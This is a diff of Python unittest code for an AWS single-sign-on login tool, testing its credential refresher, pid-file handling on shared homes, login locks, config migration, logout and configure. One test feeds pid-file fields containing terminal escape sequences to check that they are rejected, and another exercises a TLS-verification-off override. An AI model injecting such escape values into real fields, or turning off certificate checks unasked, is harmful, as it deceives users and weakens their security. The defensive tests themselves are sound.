+    SLOW = True         # waits on real time: the runner starts it first
+
+    setUp = RefresherStepTest.setUp     # logged in; a Refresher on the test's clock
+
+    def run_for(self, seconds, steps=20):
+        """Step the refresher through ``seconds`` of its clock (at most ``steps`` wake-ups)."""
+        end = self.now[0] + seconds
+        for _ in range(steps):
+            delay = self.refresher.step()
+            if delay is None or self.now[0] + delay >= end:
+                return
+            self.now[0] += delay
+
+    def test_an_expired_answer_is_a_failure_with_backoff(self):
+        first_key = self.credentials()["aws_access_key_id"]
+        self.sts.clock = lambda: time.time() - 7200
+        self.now[0] = self.refresher.next_at
+        self.run_for(10)
+        self.assertEqual(len(self.sts.requests), 2)         # the login's and one renewal
+        self.assertRegex(self.lines[-1], r"^renewal failed \(STS sent credentials that expire "
+                                         r"at \S+Z, which is not in the future.*\); trying "
+                                         r"again in 10s$")
+        self.assertEqual(self.credentials()["aws_access_key_id"], first_key)
+        self.sts.clock = time.time
+        self.run_for(30)
+        self.assertTrue(self.lines[-1].startswith("renewed"), self.lines)
+        self.assertEqual(self.refresher.failures, 0)
+
+    def test_renewals_keep_a_minimum_interval_whatever_renew_says(self):
+        now = self.now[0] = self.refresher.next_at
+        self.refresher.renew = lambda: now - 100        # as if nothing checked the answer
+        self.assertGreaterEqual(self.refresher.step(), aws_login.MIN_RENEW_INTERVAL)
+        self.assertEqual(self.refresher.next_at, now + aws_login.MIN_RENEW_INTERVAL)
+
+        def fails():
+            raise aws_login.AwsLoginError("down", transient=True)
+        self.refresher.renew = fails
+        self.now[0] = self.refresher.next_at
+        self.refresher.expires_at = self.now[0] + 0.5       # the old ones nearly expired
+        self.assertGreaterEqual(self.refresher.step(), aws_login.MIN_RENEW_INTERVAL)
+
+    def test_the_forked_refresher_makes_few_calls_against_such_an_sts(self):
+        self.sts.clock = lambda: time.time() - 7200
+        log = os.path.join(self.home, ".aws-login", "log", "default.log")
+        now = time.time()
+        code = ("import sys; sys.path.insert(0, %r); import aws_login; "
+                "aws_login.start_refresher('default', %r, %r, %r)" % (HERE, ADMIN, now - 100,
+                                                                     now + 50))
+        subprocess.check_call([sys.executable, "-c", code], env=dict(os.environ))
+        self.assertTrue(_wait_for(lambda: len(self.sts.requests) > 3 or (
+            os.path.exists(log) and "renewal failed" in self.read(log)), 30))
+        time.sleep(3)           # a spinning refresher renews every few hundred ms
+        self.assertLessEqual(len(self.sts.requests), 3, self.read(log))     # login + 1, or 2
+        self.assertIn("which is not in the future", self.read(log))
+        self.assertEqual(self.tool(["logout"], terminal=False).code, 0)
 
 
-class SigV4SuiteTest(unittest.TestCase):
-    KEY = aws_login.Credentials("AKIDEXAMPLE", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
-                                None, None)
-    WHEN = datetime.datetime(2015, 8, 30, 12, 36, 0, tzinfo=datetime.timezone.utc)
+# Stands in for a refresher: its command line runs "_refresher_loop(" for the
+# profile in argv[1]; it notes each SIGTERM and SIGWINCH in the file argv[2]
+# and keeps running.
+FAKE_REFRESHER = ("import signal, sys, time\n"
+                  "def note(signum, frame):\n"
+                  "    with open(sys.argv[2], 'a') as f:\n"
+                  "        f.write('%d\\n' % signum)\n"
+                  "signal.signal(signal.SIGTERM, note)\n"
+                  "signal.signal(signal.SIGWINCH, note)\n"
+                  "open(sys.argv[2], 'a').close()\n"
+                  "while True:\n"
+                  "    time.sleep(1)  # stands in for m._refresher_loop(")
 
-    def test_every_case_of_the_official_suite(self):
-        self.assertEqual(len(SIGV4_SUITE), 16)
-        for name, case in sorted(SIGV4_SUITE.items()):
-            method, path, headers, body = _parse_suite_request(case["req"])
-            credentials = self.KEY
-            if name == "get-vanilla-with-session-token":
-                credentials = aws_login.Credentials(
-                    self.KEY.access_key_id, self.KEY.secret_access_key,
-                    "6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267", None)
-            if "X-Amz-Security-Token" in headers:         # post-sts-header-before
-                credentials = aws_login.Credentials(
-                    self.KEY.access_key_id, self.KEY.secret_access_key,
-                    headers.pop("X-Amz-Security-Token"), None)
-            headers.pop("X-Amz-Date")
-            url = "https://" + headers["Host"] + path
-            signed = aws_login.sign_request(method, url, headers, body, credentials,
-                                            "us-east-1", "service", self.WHEN)
-            canonical, _ = aws_login.canonical_request(
-                method, url, dict((k, v) for k, v in signed.items() if k != "Authorization"),
-                body)
-            self.assertEqual(canonical, case["creq"], name)
-            self.assertEqual(aws_login.string_to_sign(
-                "20150830T123600Z", "20150830/us-east-1/service/aws4_request", canonical),
-                case["sts"], name)
-            self.assertEqual(signed["Authorization"], case["authz"], name)
-            self.assertEqual(signed["X-Amz-Date"], "20150830T123600Z")
 
+class SharedHomeTest(LoginTestCase):
+    """A home that several hosts share (NFS): logout signals only a refresher
+    that provably runs here, and names the host where another one runs."""
+
+    OTHER_HOST = "login2.cluster.example.edu"
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.run_dir = os.path.join(self.home, ".aws-login", "run")
+        self.locked = set()
+
+    def process(self, argv):
+        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                                stderr=subprocess.DEVNULL)
+        self.addCleanup(self._end, proc)
+        return proc
+
+    @staticmethod
+    def _end(proc):
+        if proc.poll() is None:
+            proc.kill()
+        proc.wait()
+
+    def fake_refresher(self, profile="default"):
+        marker = tempfile.mktemp(prefix="signals-", dir=self.home)
+        proc = self.process([sys.executable, "-c", FAKE_REFRESHER, profile, marker])
+        self.assertTrue(_wait_for(lambda: os.path.exists(marker), 20))
+        proc.marker = marker
+        return proc
+
+    def signals(self, fake):
+        """The signals ``fake`` got so far but SIGWINCH.  A SIGWINCH sent now is
+        noted after any signal sent before it (the lowest number comes first)."""
+        winch = "%d" % signal.SIGWINCH
+        seen = lambda: self.read(fake.marker).split()
+        before = seen().count(winch)
+        os.kill(fake.pid, signal.SIGWINCH)
+        self.assertTrue(_wait_for(lambda: seen().count(winch) > before, 20))
+        return [int(s) for s in seen() if s != winch]
+
+    def hold_pid_file(self, text, profile="default"):
+        """The profile's pid file holding ``text``, locked as a live refresher's is."""
+        os.makedirs(self.run_dir, 0o700, exist_ok=True)
+        path = os.path.join(self.run_dir, profile + ".pid")
+        self.write(path, text)
+        if path not in self.locked:
+            fd = os.open(path, os.O_RDONLY)
+            fcntl.flock(fd, fcntl.LOCK_EX)
+            self.addCleanup(os.close, fd)
+            self.locked.add(path)
+
+    def record(self, pid, host=None, boot_id=None, start_time=None):
+        return "%d 1900000000\nhost %s\nboot_id %s\nstart_time %s\nrole %s\n" % (
+            pid, host or os.uname().nodename, boot_id or _boot_id(),
+            start_time or _start_ticks(pid), ADMIN)
+
+    def logout(self):
+        run = self.tool(["logout"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("Logged out of profile default.\n", run.stderr)
+        self.assertIsNone(self.credentials())
+        return run
+
+    def stop(self, wait=0.5):
+        """stop_refresher in this process: (its answer, what it said on stderr)."""
+        err = io.StringIO()
+        saved, sys.stderr = sys.stderr, err
+        try:
+            return aws_login.stop_refresher("default", wait), err.getvalue()
+        finally:
+            sys.stderr = saved
+
+    def test_a_refresher_on_another_host_is_named_and_never_signalled(self):
+        sleeper = self.process(["sleep", "120"])
+        self.hold_pid_file(self.record(sleeper.pid, host=self.OTHER_HOST))
+        warning = ("aws_login: warning: profile default's refresher (pid %d) runs on host %s, "
+                   "not here: it was not signalled; it stops by itself within 30 s of finding "
+                   "its credentials removed or replaced by another role"
+                   % (sleeper.pid, self.OTHER_HOST))
+        run = self.logout()
+        self.assertIsNone(sleeper.poll())
+        self.assertEqual([line for line in run.stderr.splitlines()
+                          if line.startswith("aws_login:")], [warning])
+        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
+        self.assertEqual((row["refresher_pid"], row["refresher_alive"], row["refresher_host"],
+                          row["refresher_local"]), (sleeper.pid, True, self.OTHER_HOST, False))
+        self.assertRegex(self.tool(["status"], terminal=False).stdout,
+                         r"\ndefault .* pid %d on %s "
+                         % (sleeper.pid, re.escape(self.OTHER_HOST)))
+        run = self.tool(["login"], terminal=False)     # refresh = false: it stops none
+        self.assertEqual(run.code, 0, run)
+        self.assertIn(warning + "\n", run.stderr)
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        run = self.tool(["login"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("Already logged in to profile default as %s until " % ADMIN, run.stderr)
+        self.assertIn("the refresher (pid %d on host %s) keeps" % (sleeper.pid, self.OTHER_HOST),
+                      run.stderr)
+        self.assertIsNone(sleeper.poll())
+
+    def test_pid_zero_or_garbage_signals_nothing(self):
+        self.hold_pid_file("0 0\n")                 # kill(0) would hit logout's own group
+        self.logout()
+        for data in (b"-1 0\n", b"0 0\n", b"", b"\n", b"x 1\n", b"12 x\n", b" \n12 1\n"):
+            self.assertIsNone(aws_login.parse_pid_file(data, True), data)
+
+    def test_the_pid_file_is_rewritten_in_place_and_read_strictly(self):
+        path = os.path.join(self.home, "pid")
+        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
+        self.addCleanup(os.close, fd)
+        aws_login._record(fd, 1900000000.4, "host a\nrole %s\n" % ADMIN)
+        self.assertEqual(self.read(path),
+                         "%d 1900000000\nhost a\nrole %s\n" % (os.getpid(), ADMIN))
+        aws_login._record(fd, None, "host b\n")
+        self.assertEqual(self.read(path), "%d 0\nhost b\n" % os.getpid())
+        state = aws_login.parse_pid_file(
+            b"12 5\nhost h1\nstart_time 99\nhost h2\nboot_id \x1b[2J\nrole r\nnoise x\n", False)
+        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
+                          state.start_time, state.role_arn), (12, 5, False, "h1", "", "99", "r"))
+        state = aws_login.parse_pid_file(b"12 5\nhost \x1b]0;x\x07\nstart_time 99\n", True)
+        self.assertEqual((state.host, state.start_time, state.local), (None, None, None))
+
+    def test_a_pid_file_of_an_earlier_version_is_harmless(self):
+        sleeper = self.process(["sleep", "120"])
+        self.hold_pid_file("%d 1900000000\n" % sleeper.pid)
+        state = aws_login.refresher_state("default")
+        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
+                          state.start_time, state.role_arn, state.local),
+                         (sleeper.pid, 1900000000, True, None, None, None, None, None))
+        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
+        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
+                         (sleeper.pid, None, None))
+        run = self.logout()
+        self.assertIn("refresher (pid %d) cannot be proved to run here" % sleeper.pid,
+                      run.stderr)
+        self.assertIsNone(sleeper.poll())
+
+    def test_an_earlier_versions_file_naming_our_refresher_still_stops_it(self):
+        fake = self.fake_refresher()
+        self.hold_pid_file("%d 1900000000\n" % fake.pid)
+        self.assertEqual(self.stop()[0], fake.pid)
+        self.assertEqual(fake.wait(20), -signal.SIGKILL)    # it ignored SIGTERM
+        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGTERM])
+
+    def test_only_a_process_started_when_the_file_says_and_running_our_refresher(self):
+        fake, other = self.fake_refresher(), self.fake_refresher("other")
+        sleeper = self.process(["sleep", "120"])
+        for pid, kw, why in [
+                (fake.pid, dict(host=self.OTHER_HOST), "runs on host %s, not here"
+                 % self.OTHER_HOST),
+                (fake.pid, dict(boot_id=str(uuid.uuid4())), "runs on another machine also "
+                 "named %s" % os.uname().nodename),
+                (fake.pid, dict(start_time=str(int(_start_ticks(fake.pid)) + 1)),
+                 "cannot be proved to run here"),
+                (other.pid, {}, "cannot be proved to run here"),
+                (sleeper.pid, {}, "cannot be proved to run here")]:
+            with self.subTest(why=why, pid=pid):
+                self.hold_pid_file(self.record(pid, **kw))
+                self.assertEqual(self.stop(), (None, "aws_login: warning: profile default's "
+                                               "refresher (pid %d) %s: it was not signalled; "
+                                               "it stops by itself within 30 s of finding its "
+                                               "credentials removed or replaced by another "
+                                               "role\n" % (pid, why)))
+                self.assertEqual((self.signals(fake), self.signals(other), sleeper.poll()),
+                                 ([], [], None))
+        self.hold_pid_file(self.record(fake.pid))
+        self.assertEqual(self.stop(), (fake.pid, ""))
+        self.assertEqual(fake.wait(20), -signal.SIGKILL)
+        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGWINCH] * 5 +
+                         ["%d" % signal.SIGTERM])
+
+    def test_without_proc_ps_decides_and_nothing_is_killed(self):
+        ps = lambda pid, column: subprocess.check_output(
+            ["ps", "-o", column + "=", "-p", str(pid)]).decode().strip()
+        fake = self.fake_refresher()
+        self.addCleanup(setattr, aws_login, "PROC", aws_login.PROC)
+        aws_login.PROC = os.path.join(self.home, "no-proc")
+        lstart = ps(fake.pid, "lstart")
+        for text in ["%d 0\n" % fake.pid,                          # earlier version
+                     "%d 0\nhost %s\nstart_time %s\n" % (fake.pid, self.OTHER_HOST, lstart),
+                     "%d 0\nhost %s\nstart_time Thu Jan  1 00:00:00 2015\n"
+                     % (fake.pid, os.uname().nodename)]:
+            with self.subTest(text=text):
+                self.hold_pid_file(text)
+                self.assertIsNone(self.stop()[0])
+                self.assertEqual(self.signals(fake), [])
+        self.hold_pid_file("%d 0\nhost %s\nstart_time %s\n" % (fake.pid, os.uname().nodename,
+                                                             lstart))
+        self.assertEqual(self.stop(), (fake.pid, ""))
+        self.assertEqual(self.signals(fake), [signal.SIGTERM])      # and no SIGKILL
+        self.assertIsNone(fake.poll())
+
+    def test_this_hosts_refresher_records_where_it_runs_and_logout_stops_it(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        run = self.tool(["login", "--force"], terminal=False)
+        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
+        with open(os.path.join(self.run_dir, "default.pid")) as f:
+            lines = f.read().splitlines()
+        self.assertRegex(lines[0], r"^%d \d{10}$" % pid)
+        self.assertEqual(lines[1:], ["host " + os.uname().nodename, "boot_id " + _boot_id(),
+                                     "start_time " + _start_ticks(pid), "role " + ADMIN])
+        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
+        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
+                         (pid, os.uname().nodename, True))
+        # an earlier version's file names the same process: /proc proves it ours
+        self.assertTrue(aws_login._may_signal(
+            aws_login.parse_pid_file(b"%d 0\n" % pid, True), "default"))
+        run = self.logout()
+        self.assertNotIn("warning", run.stderr)
+        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
+
+    def test_a_piped_refresher_is_known_by_its_open_pid_file(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        with open(SCRIPT, "rb") as f:
+            source = f.read()
+        run = self.tool(["login", "--force"], stdin=source, argv_prefix=[sys.executable, "-"],
+                        terminal=False)
+        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
+        with open("/proc/%d/cmdline" % pid, "rb") as f:
+            self.assertNotIn(b"_refresher_loop", f.read())
+        run = self.logout()
+        self.assertNotIn("warning", run.stderr)
+        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
+
+
+# ---------------------------------------------------------------------------
+# Login, logout, configure: what the commands do, for a profile
+# ---------------------------------------------------------------------------
+
+def _someone_waits_for(path):
+    """Whether a process waits for the flock on ``path`` (a "->" line in /proc/locks)."""
+    inode = ":%d " % os.stat(path).st_ino
+    with open("/proc/locks") as f:
+        return any("->" in line and inode in line for line in f)
+
+
+class LoginLockTest(LoginTestCase):
+    """One login of a profile at a time: a second one waits, says so once, then
+    sees what the first did; the refresher alive serves the credentials written."""
+
+    WAITING = "Another login of profile default is in progress; waiting for it to finish.\n"
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="bob", factor="auto", password="bob-pass", refresh="true")
+        self.lock_path = os.path.join(self.home, ".aws-login", "cache", ".default.lock")
+
+    def hold(self, path):
+        """flock ``path`` (made 0600 if missing); returns the fd to close."""
+        os.makedirs(os.path.dirname(path), 0o700, exist_ok=True)
+        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
+        fcntl.flock(fd, fcntl.LOCK_EX)
+        return fd
+
+    def in_thread(self, function, *args, **kw):
+        result = {}
+
+        def run():
+            try:
+                result["value"] = function(*args, **kw)
+            except BaseException as e:
+                result["error"] = e
+        thread = threading.Thread(target=run)
+        thread.daemon = True
+        thread.start()
+        return thread, result
+
+    def test_two_logins_at_once_leave_the_last_ones_refresher(self):
+        for trial in range(5):
+            with self.subTest(trial=trial):
+                started = [self.in_thread(self.tool, ["login", "--force", "--role-arn", role],
+                                          terminal=False) for role in (ADMIN, DEV)]
+                runs = {}
+                for role, (thread, result) in zip((ADMIN, DEV), started):
+                    thread.join(120)
+                    runs[role] = result.get("value", result.get("error"))
+                    self.assertEqual(getattr(runs[role], "code", None), 0, runs[role])
+                role = self.credentials()["aws_login_role_arn"]
+                other = DEV if role == ADMIN else ADMIN
+                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[role].stderr)
+                self.assertTrue(match, runs)
+                pid = int(match.group(1))
+                state = aws_login.refresher_state("default")
+                self.assertEqual((state.pid, state.alive, state.role_arn), (pid, True, role),
+                                 runs)
+                self.assertNotIn(_process_state(pid), (None, "Z"))
+                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[other].stderr)
+                self.assertTrue(match, runs)
+                self.assertTrue(_wait_for(
+                    lambda: _process_state(int(match.group(1))) in (None, "Z"), 10), runs)
+                self.assertLessEqual(sum(r.stderr.count(self.WAITING) for r in runs.values()),
+                                     1, runs)
+
+    def test_a_second_login_waits_says_so_once_then_sees_the_first(self):
+        lock = self.hold(self.lock_path)
+        try:
+            thread, result = self.in_thread(self.tool, ["login", "--role-arn", ADMIN],
+                                            terminal=False)
+            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
+            self.assertEqual((self.idp.requests, os.path.exists(self.credentials_file)),
+                             ([], False))
+            # meanwhile the first login writes the credentials, starts its refresher
+            aws_login.write_credentials("default", _fake_credentials(), ADMIN)
+            sleeper = subprocess.Popen(["sleep", "120"])
+            self.addCleanup(sleeper.wait)
+            self.addCleanup(sleeper.kill)
+            pid_file = os.path.join(self.home, ".aws-login", "run", "default.pid")
+            os.makedirs(os.path.dirname(pid_file), 0o700)
+            self.addCleanup(os.close, self.hold(pid_file))
+            self.write(pid_file, "%d 1900000000\n" % sleeper.pid)
+        finally:
+            os.close(lock)
+        thread.join(60)
+        run = result.get("value", result.get("error"))
+        self.assertEqual(getattr(run, "code", None), 0, run)
+        self.assertTrue(run.stderr.startswith(self.WAITING + "Already logged in to profile "
+                                              "default as %s" % ADMIN), run)
+        self.assertEqual(run.stderr.count(self.WAITING), 1)
+        self.assertEqual(self.idp.requests, [])
+
+    def test_credential_process_renews_under_the_same_lock_quietly(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
+        lock = self.hold(self.lock_path)
+        try:
+            thread, result = self.in_thread(self.tool, ["credential-process"], terminal=False)
+            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
+            self.assertEqual(self.idp.requests, [])
+        finally:
+            os.close(lock)
+        thread.join(60)
+        run = result.get("value", result.get("error"))
+        self.assertEqual((getattr(run, "code", None), run.stderr), (0, ""), run)
+        self.assertEqual(json.loads(run.stdout)["AccessKeyId"],
+                         self.sts.issued[-1]["AccessKeyId"])
+
+    def test_the_python_api_waits_too_even_in_another_thread_of_the_holder(self):
+        profile = aws_login.read_profile("default")
+        for call, stored in [
+                (lambda: aws_login.get_credentials("default", role_arn=DEV), DEV),
+                (lambda: aws_login.get_credentials("default", role_arn=ADMIN, store=False), DEV),
+                (lambda: aws_login.login(profile, role_arn=ADMIN)[0], ADMIN)]:
+            err = io.StringIO()
+            saved, sys.stderr = sys.stderr, err
+            try:
+                with aws_login._profile_lock("default"):        # held by this thread
+                    thread, result = self.in_thread(call)
+                    self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30),
+                                    result)
+                    self.assertEqual(result, {})
+                thread.join(60)
+            finally:
+                sys.stderr = saved
+            self.assertEqual(result["value"].access_key_id, self.sts.issued[-1]["AccessKeyId"])
+            self.assertEqual(self.credentials()["aws_login_role_arn"], stored)
+            self.assertEqual(err.getvalue(), self.WAITING)
+        self.assertEqual(os.stat(self.lock_path).st_mode & 0o777, 0o600)
+        self.assertEqual(os.stat(os.path.dirname(self.lock_path)).st_mode & 0o777, 0o700)
+
+    def test_the_refresher_starts_before_the_lock_goes(self):
+        seen = []
+
+        def start_refresher(*args):
+            fd = os.open(self.lock_path, os.O_RDWR)
+            try:
+                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+                seen.append("free")
+            except OSError:
+                seen.append("held")
+            finally:
+                os.close(fd)
+            return 4242
+        self.addCleanup(setattr, aws_login, "start_refresher", aws_login.start_refresher)
+        aws_login.start_refresher = start_refresher
+        err = io.StringIO()
+        saved, sys.stderr = sys.stderr, err
+        try:
+            aws_login._login_and_report(aws_login.read_profile("default"), DEV, False, False)
+        finally:
+            sys.stderr = saved
+        self.assertEqual(seen, ["held"])
+        self.assertIn("A refresher (pid 4242) renews them.", err.getvalue())
+
+
+class LoginOverridesTest(LoginTestCase):
+    def test_ca_bundle_region_and_no_verify_ssl_for_one_login(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        del os.environ["AWS_CA_BUNDLE"]
+        run = self.tool(["login"], terminal=False)
+        self.assert_nothing_written(run, 8)
+        self.assertEqual(self.idp.requests, [])
+        run = self.tool(["login", "--ca-bundle", self.pems["ca"], "--region", "eu-west-1"],
+                        terminal=False)
+        self.assert_logged_in(run)
+        self.assertEqual(aws_login.read_profile("default").ca_bundle, None)    # this time only
+        run = self.tool(["login", "--force", "--no-verify-ssl"], terminal=False)
+        self.assert_logged_in(run)
+        self.assertIn("TLS CERTIFICATE CHECKING IS OFF", run.stderr)
+        run = self.tool(["login", "--region", "mars"], terminal=False)
+        self.assertEqual(run.code, 3, run)
+
+
+class NonInteractiveTest(LoginTestCase):
+    def test_password_from_stdin_without_a_terminal(self):
+        self.configure(username="alice", factor="auto")
+        run = self.tool(["login", "--password-stdin"], terminal=False,
+                        stdin=(PASSWORD + "\n").encode())
+        self.assert_logged_in(run)
+        run = self.tool(["login", "--password-stdin", "--force"], terminal=False, stdin=b"")
+        self.assertEqual(run.code, 2, run)
+
+    def test_password_from_stdin_is_kept_in_the_keyring(self):
+        keyring = FakeKeyring(self.home)
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        run = self.tool(["login", "--password-stdin"], terminal=False, env=keyring.env(),
+                        stdin=(PASSWORD + "\n").encode())
+        self.assert_logged_in(run)
+        self.assertEqual(keyring.items(), {"awscli_login alice@" + self.idp.host_port: PASSWORD})
+
+    def test_anything_missing_fails_at_once(self):
+        self.configure(username="bob", factor="auto", password="bob-pass")
+        started = time.time()
+        run = self.tool(["login"], terminal=False)      # two roles, none configured
+        self.assertEqual(run.code, 11, run)
+        self.assertIn("no terminal", run.stderr)
+        self.assertLess(time.time() - started, 10)
+
+
+AWSCLI_LOGIN_CONFIG = """[default]
+ecp_endpoint_url = {url}
+username = alice
+enable_keyring = True
+factor = push
+role_arn = {role}
+
+[prod]
+ecp_endpoint_url = {url}
+username = bob
+factor = passcode
+duration = 7200
+http_header_factor = X-Shibboleth-Duo-Factor
+verify_ssl_certificate = True
+"""
+
+
+class MigrationTest(LoginTestCase):
+    """awscli-login's files, as it writes them, work unchanged."""
+
+    def test_its_config_and_keyring_entry_log_in_with_nothing_asked(self):
+        os.remove(self.config_file) if os.path.exists(self.config_file) else None
+        self.write(self.config_file, AWSCLI_LOGIN_CONFIG.format(url=self.idp.url, role=ADMIN))
+        keyring = FakeKeyring(self.home)
+        keyring.set("alice@" + self.idp.host_port, PASSWORD)    # its `keyring set` entry
+        run = self.tool(["login", "--no-refresh"], terminal=False, env=keyring.env())
+        self.assert_logged_in(run)
+        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
+        prod = aws_login.read_profile("prod")
+        self.assertEqual((prod.username, prod.factor, prod.duration, prod.verify_ssl_certificate),
+                         ("bob", "passcode", 7200, True))
+
+    def test_its_defaults_duration_0_and_factor_off_mean_not_set(self):
+        # awscli-login 1.0 writes duration = 0 ("not set"), and reads 0, no,
+        # false, off and disable as "no Duo factor".
+        for word in ("off", "0", "No", "false", "disable"):
+            self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
+                       "enable_keyring = False\nfactor = %s\nrole_arn = \nduration = 0\n"
+                       % (self.idp.url, word))
+            profile = aws_login.read_profile("default")
+            self.assertEqual((profile.factor, profile.duration), ("off", None), word)
+            before = len(self.idp.requests)
+            run = self.tool(["login", "--no-refresh"], [("Password: ", PASSWORD)])
+            self.assert_logged_in(run)
+            self.assertNotIn("Factor", run.tty)
+            for request in self.idp.requests[before:]:
+                for header in DUO_HEADERS + DUO_HEADERS_MISSPELLED:
+                    self.assertNotIn(header, request["headers"], word)
+            self.assertNotIn("DurationSeconds", self.sts.requests[-1]["form"])
+            self.tool(["logout", "--forget"], terminal=False)
+        self.assertRaises(aws_login.ConfigError, aws_login.check_factor, "never")
+        self.assertRaises(aws_login.ConfigError, aws_login.check_duration, "899")
+        self.assertEqual(aws_login.check_duration("900"), 900)
+
+    def test_a_blank_factor_without_a_terminal_is_auto(self):
+        self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
+                   "factor = \n" % self.idp.url)
+        run = self.tool(["login", "--password-stdin", "--no-refresh"], terminal=False,
+                        stdin=(PASSWORD + "\n").encode())
+        self.assert_logged_in(run)
+        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "auto")
+
+    def test_awscli_login_root_stands_for_the_home_folder(self):
+        elsewhere = os.path.join(self.home, "elsewhere")
+        os.environ["AWSCLI_LOGIN_ROOT"] = elsewhere
+        self.assertEqual(aws_login.config_path(),
+                         os.path.join(elsewhere, ".aws-login", "config"))
+        del os.environ["AWSCLI_LOGIN_ROOT"]
+        self.assertEqual(aws_login.config_path(),
+                         os.path.join(self.home, ".aws-login", "config"))
+
+
+class LogoutTest(LoginTestCase):
+    def test_logout_removes_only_the_profile(self):
+        before = "[work]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
+        self.write(self.credentials_file, before)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.configure("second", username="alice", factor="auto", password=PASSWORD)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.assert_logged_in(self.tool(["--profile", "second", "login"], terminal=False),
+                              profile="second")
+        run = self.tool(["logout"], terminal=False)
+        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
+        self.assertIsNone(self.credentials("default"))
+        self.assertIsNotNone(self.credentials("second"))
+        run = self.tool(["logout", "--all"], terminal=False)
+        self.assertEqual(run.code, 0)
+        self.assertEqual(self.read(self.credentials_file), before)
+
+    def test_logging_out_twice_is_calm_with_exit_10(self):
+        run = self.tool(["logout"], terminal=False)
+        self.assertEqual(run.code, 10)
+        self.assertEqual(run.stderr, "Not logged in to profile default: nothing to remove.\n")
+
+    def test_logout_leaves_sections_it_did_not_write(self):
+        before = "[default]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
+        self.write(self.credentials_file, before)
+        run = self.tool(["logout"], terminal=False)
+        self.assertEqual(run.code, 9)
+        self.assertEqual(self.read(self.credentials_file), before)
+
+
+class ConfigureTest(LoginTestCase):
+    def test_prompts_validate_and_reask(self):
+        self.write(self.config_file, "# my settings\n[other]\nusername = x\n")
+        run = self.tool(["configure"], [
+            ("ECP Endpoint URL [None]: ", "http://idp.example.edu/ecp"),
+            ("ECP Endpoint URL [None]: ", self.idp.url),
+            ("Username [None]: ", "alice"),
+            ("Enable Keyring [False]: ", "maybe"),
+            ("Enable Keyring [False]: ", "true"),
+            ("Duo Factor [None]: ", "yubikey"),
+            ("Duo Factor [None]: ", "push"),
+            ("Role ARN [None]: ", "arn:aws:iam::1:role/x"),
+            ("Role ARN [None]: ", ADMIN),
+            ("Use credential_process [False]: ", "")])
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("plain http", run.tty)
+        self.assertIn("not one of auto, push", run.tty)
+        self.assertEqual(self.read(self.config_file),
+                         "# my settings\n[other]\nusername = x\n\n[default]\n"
+                         "ecp_endpoint_url = %s\nusername = alice\nenable_keyring = true\n"
+                         "factor = push\nrole_arn = %s\n" % (self.idp.url, ADMIN))
+        self.assertEqual(os.stat(self.config_file).st_mode & 0o777, 0o600)
+        self.assertEqual(os.stat(os.path.dirname(self.config_file)).st_mode & 0o777, 0o700)
+        run = self.tool(["configure"], [("ECP Endpoint URL [%s]: " % self.idp.url, ""),
+                                        ("Username [alice]: ", "bob"),
+                                        ("Enable Keyring [True]: ", ""),
+                                        ("Duo Factor [push]: ", ""),
+                                        ("Role ARN [%s]: " % ADMIN, ""),
+                                        ("Use credential_process [False]: ", "")])
+        self.assertEqual(run.code, 0, run)
+        profile = aws_login.read_profile("default")
+        self.assertEqual((profile.username, profile.factor, profile.enable_keyring),
+                         ("bob", "push", True))
+
+    def test_flags_set_values_without_prompts(self):
+        run = self.tool(["--profile", "ci", "configure", "--ecp-endpoint-url", self.idp.url,
+                         "--username", "alice", "--factor", "passcode", "--role-arn", ADMIN,
+                         "--duration", "3600", "--region", "eu-west-1",
+                         "--ca-bundle", self.pems["ca"]], terminal=False)
